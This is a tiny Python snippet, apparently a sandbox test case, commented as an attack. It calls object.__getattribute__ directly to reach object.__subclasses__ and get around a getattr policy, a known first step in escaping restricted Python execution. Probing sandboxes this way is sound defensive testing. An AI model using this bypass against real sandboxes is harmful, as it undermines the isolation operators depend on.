# attack: object.__getattribute__(object, '__subclasses__') to bypass getattr's policy
get = object.__getattribute__
print(get(object, "__subclasses__")())
